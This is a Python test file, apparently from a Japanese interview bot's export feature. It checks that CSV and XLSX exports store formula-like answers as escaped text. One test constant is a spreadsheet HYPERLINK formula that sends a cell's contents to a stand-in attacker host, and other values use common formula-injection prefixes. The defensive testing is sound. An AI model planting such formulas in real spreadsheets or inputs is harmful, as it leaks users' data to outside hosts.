"""Data at rest and on the way out (issue 20): exports never carry live formulas (finding 11)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from openpyxl import load_workbook

from bot.engine import Engine
from bot.services import Services
from tests.conftest import make_settings
from tests.test_hearing_export import interview, run_cli

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"詳細")'
OTHERS = {"受発注を紙で管理しており、デジタル化したい": "@SUM(1+1)", "窓口 花子": "+81 dial", "株式会社窓口製作所": "-2+3"}


def test_hearing_answers_that_look_like_formulas_stay_text_in_csv_and_xlsx(tmp_path: Path) -> None:
    services = Services.create(make_settings(tmp_path))
    interview(Engine(services), "attacker", **{"自動車部品の精密加工": FORMULA}, **OTHERS)
    csv_text = run_cli("hearing", "export", "--format", "csv").decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(csv_text)) for cell in row]
    for typed in (FORMULA, *OTHERS.values()):
        assert "'" + typed in cells, typed
        assert typed not in cells, typed  # never as the cell's first character
    out = tmp_path / "answers.xlsx"
    run_cli("hearing", "export", "--format", "xlsx", "--out", str(out))
    sheet = load_workbook(out).active
    values = {cell.value: cell.data_type for row in sheet.iter_rows() for cell in row if cell.value is not None}
    for typed in (FORMULA, *OTHERS.values()):
        assert values.get("'" + typed) == "s", (typed, values.get("'" + typed))
    assert not [v for v, kind in values.items() if kind == "f" or (isinstance(v, str) and v.startswith("="))]
    services.close()
